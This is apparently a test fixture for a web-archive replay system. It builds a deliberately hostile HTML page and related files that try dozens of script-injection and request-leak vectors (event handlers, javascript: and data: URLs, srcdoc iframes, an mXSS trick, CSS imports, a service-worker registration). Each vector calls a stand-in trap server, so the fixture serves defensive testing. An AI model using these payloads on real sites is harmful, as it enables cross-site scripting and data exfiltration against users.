"""A page that tries everything: each attempt would leave a trace on a server that listens, or in the window."""

# ruff: noqa: E501  - attacks, as they are written

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from archive.store.crawls import begin_crawl
from archive.store.database import Archive
from archive.store.recording import record
from tests.archive.web import press
from tests.newsroom.server import Answer, Server

URL = "https://hostile.example/story"
AT = datetime(2026, 3, 18, 12, 0, tzinfo=UTC)
DIGITS = "20260318120000"
MARKER = "the page itself still shows"
END = "and so does its end"


def page(trap: str, library: str) -> bytes:
    """The page; `trap` is a server that nobody may reach, `library` the address of the archive's pages."""
    return f"""<!DOCTYPE html><html onload="fetch('{trap}/onload')"><head><title>Hostile</title>
<base href="{trap}/"><meta http-equiv="refresh" content="0;url={trap}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="preload" href="{trap}/preload" as="script"><link rel="dns-prefetch" href="{trap}"><link rel="icon" href="{trap}/icon">
<link rel="stylesheet" href="{trap}/sheet.css"><link rel="manifest" href="{trap}/manifest">
<style>@import "{trap}/import.css"; body {{ background: url({trap}/background) }}
@font-face {{ font-family: x; src: url("{trap}/font") }} p {{ font-family: x; content: u\\72l({trap}/escaped) }}</style>
<script>fetch('{trap}/script'); document.cookie = 'stolen=1'; window.top.ran = 1; document.title = 'ran'</script>
<script src="{trap}/script.js"></script><script>navigator.serviceWorker.register('/web/{DIGITS}js_/{URL}')</script>
</head><body onclick="fetch('{trap}/onclick')" style="background-image: url({trap}/style)" background="{trap}/attribute">
<p>{MARKER}</p>
<img src="x" onerror="fetch('{trap}/onerror'); document.body.innerText = 'ran'"><img src="{trap}/img" srcset="{trap}/srcset 2x">
<img src="{library}/archive/articles.json"><img src="javascript:fetch('{trap}/js')">
<svg onload="fetch('{trap}/svg')"><script>fetch('{trap}/svgscript')</script><image href="{trap}/svgimage"/>
<animate onbegin="fetch('{trap}/animate')" attributeName="x" dur="1s"/><use href="{trap}/use.svg#x"/>
<foreignObject><iframe src="{trap}/foreign"></iframe></foreignObject></svg>
<math><mtext><style><img src=x onerror="fetch('{trap}/mxss')"></style></mtext></math>
<iframe src="{trap}/iframe"></iframe><iframe srcdoc="<script>fetch('{trap}/srcdoc')</script>"></iframe>
<iframe src="{library}/archive"></iframe><object data="{trap}/object"></object><embed src="{trap}/embed">
<form id="form" action="{trap}/form" method="post"><input name="secret" value="1" autofocus onfocus="fetch('{trap}/focus')">
<button id="send" formaction="{trap}/formaction">send</button></form>
<a id="js" href="javascript:fetch('{trap}/jslink')">js</a><a id="ping" href="#here" ping="{trap}/ping">ping</a>
<a id="data" href="data:text/html,<script>fetch('{trap}/data')</script>">data</a>
<a id="away" href="{trap}/away" target="_blank">away</a>
<video src="{trap}/video" poster="{trap}/poster" autoplay></video><audio src="{trap}/audio" autoplay></audio>
<noscript><img src="{trap}/noscript"></noscript><template><img src="{trap}/template"></template>
<details open ontoggle="fetch('{trap}/toggle')"><summary>x</summary></details><marquee onstart="fetch('{trap}/marquee')">x</marquee>
<div id="here">{END}</div></body></html>""".encode()


SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="document.title='ran'">
<script>document.title = 'ran'; window.top.ran = 1</script><rect width="10" height="10"/></svg>"""


# Two pages that frame each other, and the page that tries everything.
FRAMING = b"""<!doctype html><html lang=en><title>Frames</title><p>framed</p><script>window.top.ran = 1</script>
<iframe src="/hostile/framing"></iframe><iframe src="/hostile/story"></iframe><iframe src="/hostile/picture.svg"></iframe>
<iframe src="javascript:window.top.ran=1"></iframe><iframe src="/hostile/framing" srcdoc="<script>top.ran=1</script>"
sandbox="allow-scripts allow-same-origin"></iframe></html>"""


def publish(server: Server, trap: str) -> list[str]:
    """Serve the pages below /hostile on a site of the newsroom, and return their addresses."""
    # The library's port is known only once it listens: the page asks its own origin by an address without host.
    story, css = (
        page(trap, ""),
        f"@import '{trap}/css'; p {{ background: url({trap}/css.png); behavior: url({trap}/x) }}",
    )
    return [
        server.put("/hostile/story", Answer(story)),
        server.put("/hostile/framing", Answer(FRAMING)),
        server.put("/hostile/picture.svg", Answer(SVG, content_type="image/svg+xml")),
        server.put("/hostile/xml", Answer(story, content_type="application/xhtml+xml")),
        server.put("/hostile/sheet.css", Answer(css, content_type="text/css")),
    ]


def fill(path: Path, trap: str, library: str) -> None:
    """Record the page and its like in an archive."""
    with Archive.open(path, create=True) as archive:
        crawl = begin_crawl(archive, command="fetch", settings={})
        record(
            archive,
            crawl,
            [
                press.exchange(URL, page(trap, library), AT),
                press.exchange("https://hostile.example/picture.svg", SVG, AT, "image/svg+xml"),
                press.exchange("https://hostile.example/not-a-picture.png", page(trap, library), AT, "text/html"),
                press.exchange("https://hostile.example/xml", page(trap, library), AT, "application/xhtml+xml"),
                press.exchange("https://hostile.example/program.js", b"fetch('/')", AT, "text/javascript"),
                press.exchange("https://hostile.example/paper.pdf", b"%PDF-1.4", AT, "application/pdf"),
                press.exchange(
                    "https://hostile.example/moved", b"", AT, status="302 Found", more=f"Location: {URL}\r\n"
                ),
                press.exchange("https://hostile.example/empty", b"", AT),
                press.exchange("https://hostile.example/deep", b"<div>" * 100_000 + b"deep", AT),
            ],
        )
